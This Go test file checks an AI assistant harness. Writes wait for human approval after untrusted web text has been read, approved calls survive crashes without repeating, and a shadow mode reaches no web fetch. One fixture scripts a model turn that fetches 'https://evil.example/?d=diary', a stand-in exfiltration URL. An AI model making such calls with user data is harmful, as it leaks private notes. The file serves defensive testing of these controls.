package oracle_test

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"sibyl/internal/behaviour/assert"
	"sibyl/internal/model/modeltest"
	"sibyl/internal/oracle"
	"sibyl/internal/run/replay"
	"sibyl/internal/service/assistant"
	"sibyl/trees"
)

const (
	release   = `{"url":"https://go.example/release"}`
	goNote    = `{"path":"go.md"}`
	unknown   = `{"url":"https://evil.example/?d=diary"}`
	askRemind = "Create a note about the latest release of Go, see https://go.example/release"
)

// waitingHarness is a run that reads a page and wants to write: the note waits for the person.
func waitingHarness(t *testing.T, then ...modeltest.Turn) *harness {
	t.Helper()
	h := setUp(t, append([]modeltest.Turn{modeltest.Say(needCapability("web fetch")),
		modeltest.SayAndCall(needTurn("look it up"), "web_fetch", release),
		modeltest.SayAndCall(needTurn("write it down"), "vault_write", goNote),
		modeltest.Say("Go 1 is out; the note waits for your yes. " + enough())}, then...)...)
	a := h.finish(h.start(askRemind))
	same(t, "stop reason", a.StopReason, oracle.StopNeedsUser)
	same(t, "what waits", whatWaits(a),
		[]string{"vault_write " + goNote + ": text from strangers was read in this run"})
	same(t, "what stands in the world", h.world.written(), []string(nil))
	return h
}

func TestCrashAtEveryAppendAfterAYesMakesTheCallOnce(t *testing.T) {
	t.Parallel()
	answers := slices.Repeat([]modeltest.Turn{modeltest.Say("Written. " + enough())}, 3)
	calm := waitingHarness(t, answers...)
	whole := mortal(calm.store, 0, false)
	want := timeless(calm.crashAndResume("yes", whole))
	same(t, "stop reason", want.StopReason, oracle.StopSatisfied)
	for at := 1; at <= whole.Writes(); at++ {
		for _, after := range []bool{false, true} {
			h := waitingHarness(t, answers...)
			dying := mortal(h.store, at, after)
			what := fmt.Sprintf("append %d written %v: ", at, after)
			same(t, what+"answer", timeless(h.crashAndResume("yes", dying)), want)
			same(t, what+"the process died", dying.Dead(), true)
			same(t, what+"tools that were reached", h.world.called(), []string{"web_fetch", "vault_write"})
		}
	}
}

func TestReplayOfAYesDecidesAsRecorded(t *testing.T) {
	h := waitingHarness(t, modeltest.Say("Written. "+enough()))
	h.ask("yes")
	found := h.replay(replay.Options{})
	same(t, "differences", kindsOf(found), []replay.DifferenceKind{})
	same(t, "where it ended", found.Reached, replay.ReachedEnd)
}

func TestYesIsForTheNotesThatItWasAskedFor(t *testing.T) {
	h := waitingHarness(t)
	q := h.question("yes")
	q.Vault.Path = "/others"
	_, err := h.begin(t.Context(), h.store, q)
	wrong, ok := errors.AsType[*assistant.RequestError](err)
	assert.That(t, ok && !strings.Contains(wrong.Text+wrong.Hint, "/notes"), "asked for other notes: %v", err)
	same(t, "what stands in the world", h.world.written(), []string(nil))
}

func TestShadowAsksNobodyAndReachesNothingThatWaits(t *testing.T) {
	h := setUp(t, modeltest.SayAndCall("Look.", "code_read", `{"path":"auth.go"}`), modeltest.SayAndCall("There.",
		"web_fetch", unknown), modeltest.Say("Done."))
	tree := assert.Must(trees.Set{}.Get(oracle.ShadowTree))(t)
	h.tree = tree
	a := h.ask(auth)
	same(t, "tools that were reached", h.world.called(), []string{"code_read"})
	same(t, "what waits", len(a.Waiting), 0)
}

// whatWaits tells which calls wait for the person, and why.
func whatWaits(a oracle.Answer) (all []string) {
	for _, w := range a.Waiting {
		all = append(all, w.Tool+" "+w.Arguments+": "+w.Text)
	}
	return all
}
